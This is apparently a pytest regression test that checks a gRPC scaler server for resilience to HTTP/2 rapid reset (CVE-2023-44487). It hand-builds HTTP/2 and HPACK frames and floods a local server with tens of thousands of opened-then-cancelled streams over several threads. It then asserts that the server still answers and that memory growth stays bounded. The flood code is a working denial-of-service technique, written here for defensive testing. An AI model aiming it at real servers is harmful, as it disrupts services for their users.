"""HTTP/2 streams that are opened and reset at once, by the ten thousand: others are answered.

Known as rapid reset (CVE-2023-44487): a client that resets each stream never reaches a limit of
open streams, while the server begins and ends a call for each.
"""

import contextlib
import socket
import struct
import threading
from collections.abc import Iterator

import pytest

from tests.support.serving import DEADLINE_SECONDS, peak_bytes, serving

pytestmark = pytest.mark.slow

STREAMS = 20_000
CONNECTIONS = 4
GROWTH_BYTES = 64 * 2**20
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RESET, _SETTINGS = 0x1, 0x3, 0x4
_END_HEADERS = 0x4
_CANCEL = struct.pack(">I", 8)
_PATH = b"/externalscaler.ExternalScaler/IsActive"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return one frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value: bytes) -> bytes:
    """Return a string of HPACK that is not compressed (RFC 7541, section 5.2)."""
    return bytes([len(value)]) + value


def call() -> bytes:
    """Return the header block of a gRPC call, without an index (RFC 7541, section 6.2.2)."""
    post, plain = b"\x83", b"\x86"
    path, authority = b"\x04" + text(_PATH), b"\x01" + text(b"localhost")
    kind = b"\x00" + text(b"content-type") + text(b"application/grpc")
    return post + plain + path + authority + kind + b"\x00" + text(b"te") + text(b"trailers")


def resets(streams: int) -> Iterator[bytes]:
    """Yield frames that open streams and reset each of them at once."""
    block = call()
    for number in range(streams):
        stream = 2 * number + 1
        yield frame(_HEADERS, _END_HEADERS, stream, block) + frame(_RESET, 0, stream, _CANCEL)


def flood(port: int) -> None:
    """Open and reset streams over one connection, until the server ends it."""
    with (
        contextlib.suppress(OSError),
        socket.create_connection(("127.0.0.1", port), DEADLINE_SECONDS) as connection,
    ):
        connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0, b""))
        for part in resets(STREAMS):
            connection.sendall(part)


def test_streams_that_are_reset_at_once_keep_nobody_from_an_answer() -> None:
    with serving() as scaler:
        assert scaler.specify() == 70
        before = peak_bytes(scaler.process)
        floods = [
            threading.Thread(target=flood, args=(scaler.grpc_port,), daemon=True)
            for _ in range(CONNECTIONS)
        ]
        for each in floods:
            each.start()
        answers = 0
        while any(each.is_alive() for each in floods):
            assert scaler.specify() == 70
            answers += 1
        assert answers > 0
        assert scaler.specify() == 70
        assert peak_bytes(scaler.process) - before < GROWTH_BYTES
